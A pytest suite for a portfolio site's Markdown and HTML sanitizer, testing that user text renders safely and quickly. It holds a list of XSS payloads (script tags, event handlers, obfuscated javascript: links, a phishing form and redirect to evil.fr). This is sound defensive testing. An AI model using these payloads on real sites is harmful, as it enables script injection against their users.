"""What people wrote, shown: whatever it is, the page does only what we meant it to."""

import time
from urllib.parse import urlsplit

import bleach
import pytest
from bs4 import BeautifulSoup, Tag
from hypothesis import given, settings
from hypothesis import strategies as st

from portfolio.domain import markup
from portfolio.domain.markup import REL, TAGS, plain, sanitize

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.fr/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<form action=https://evil.fr><input name=phrase><button>Ok</button></form>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<base href=https://evil.fr/><meta http-equiv=refresh content='0;url=//evil.fr'>",
    "<style>*{background:url(//evil.fr)}</style><link rel=stylesheet href=//evil.fr>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<!--><script>alert(1)</script-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.fr)",
    "[x](/account/close)",
    "[x](\\\\evil.fr)",
    "[x](?delete=1)",
    "[x](http://evil.fr)",
    "[x](https:evil)",
    "[x](<https://e.fr' onmouseover='alert(1)>)",
    '[x](https://e.fr "\'onmouseover=alert(1)")',
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    '<https://e.fr/"onclick=alert(1)>',
    "![x](https://evil.fr/spy.png)",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](y)',
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "# <script>alert(1)</script>",
    "| <script> |\n|---|\n| alert(1) |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\0<script\0>alert(1)</script>",
]


def assert_harmless(shown: str) -> BeautifulSoup:
    """Parse *shown* as a browser does, and refuse all that we did not mean to let through."""
    page = BeautifulSoup(f"<div id=own>{shown}</div>", "html5lib")
    (own,) = page.select("body > *")
    assert own.get("id") == "own", "it closed the element it was put in"
    for tag in own.find_all(True):
        assert isinstance(tag, Tag)
        assert tag.name in TAGS
        allowed = {"a": {"href", "rel"}, "ol": {"start"}}.get(tag.name, set())
        assert set(tag.attrs) <= allowed
        if tag.get("href"):
            address = urlsplit(str(tag["href"]))
            assert address.scheme in {"https", "mailto"}
            assert address.netloc or address.scheme == "mailto"
            assert tag["rel"] == REL.split()
    return page


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "around", ["{}", "Avant {} après", "- {}", "> {}", "*{}*", "[{}](https://e.fr)"]
)
def test_no_payload_lives(payload: str, around: str) -> None:
    assert_harmless(sanitize(around.format(payload)))


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [*PAYLOADS, "\n", "\n\n", "*", "`", "[", "](", ")", "<", ">", '"', "'", "a"]
        ),
        max_size=8,
    )
)
def test_no_mixture_of_payloads_lives(pieces: list[str]) -> None:
    assert_harmless(sanitize("".join(pieces)))


@settings(max_examples=200, deadline=None)
@given(
    st.text(
        st.sampled_from("ab é’\"':;,.!?()-+1)#=|$/@%{}\u00a0\u202f\u3000\u2028🧶ع\n\n  "),
        max_size=30,
    )
)
def test_the_short_way_and_the_long_way_agree(text: str) -> None:
    long = bleach.clean(
        markup._MARKDOWN.render(text), tags=TAGS, attributes=markup._may, strip=True
    )

    assert sanitize(text) == long.replace("<p></p>\n", "")


def test_what_people_write_is_kept() -> None:
    page = assert_harmless(
        sanitize(
            "J’ai **tout** refait,\nseule.\n\n- le sol\n- les murs\n\n"
            "Voir [le chantier](https://exemple.fr/a?b=1&c=2) ou <mailto:awa@exemple.fr>"
        )
    )

    assert page.strong and page.strong.text == "tout"
    assert len(page.select("p br")) == 1
    assert [item.text for item in page.select("li")] == ["le sol", "les murs"]
    assert [link["href"] for link in page.select("a")] == [
        "https://exemple.fr/a?b=1&c=2",
        "mailto:awa@exemple.fr",
    ]


def test_who_writes_as_they_speak_is_not_misunderstood() -> None:
    text = "2019. J’ai commencé\n\nTitre\n---\n    décalé\n\n# dièse\n\n[note]: voir plus bas"

    page = assert_harmless(sanitize(text))

    assert page.ol and page.ol["start"] == "2019"
    assert not page.select("h1, h2, pre, hr")
    assert "[note]: voir plus bas" in page.text
    assert "---" in page.text and "# dièse" in page.text


def test_a_comparison_is_not_a_tag() -> None:
    assert sanitize("3 < 5 & 7 > 2") == "<p>3 &lt; 5 &amp; 7 &gt; 2</p>\n"


@pytest.mark.parametrize("sign", ["[", "![[", "*a ", "<", "&", "`", "[a](", "> ", "- ", "~~a"])
def test_no_text_holds_the_page_up(sign: str) -> None:
    text = sign * (20_000 // len(sign))
    began = time.process_time()

    sanitize(text)
    plain(text)

    assert time.process_time() - began < 2


@pytest.mark.parametrize(
    ("found", "read"),
    [
        ("Jean", "Jean"),
        ("<b>Jean</b> Dupont", "Jean Dupont"),
        ("R&amp;D &eacute;t&eacute;", "R&D été"),
        ("R&D", "R&D"),
        ("a < b", "a < b"),
        ("<p>Un</p><p>Deux</p>", "Un\n\nDeux"),
        ("Un<br>Deux<BR/>Trois", "Un\nDeux\nTrois"),
        ("<ul><li>un</li><li>deux</li></ul>", "- un\n- deux"),
        ("<a href='javascript:alert(1)'>lien</a>", "lien"),
        ("<!-- rien -->Jean", "Jean"),
        ("<img src=x onerror=alert(1)>Jean", "Jean"),
    ],
)
def test_imported_html_becomes_text(found: str, read: str) -> None:
    assert plain(found) == read


@pytest.mark.parametrize("payload", PAYLOADS)
def test_imported_html_once_read_is_harmless_as_prose(payload: str) -> None:
    assert_harmless(sanitize(plain(payload)))


def test_a_very_long_import_is_cut_but_still_too_long_to_be_taken() -> None:
    assert 20_000 < len(plain("<b>" + "a" * 1_000_000)) <= 100_000
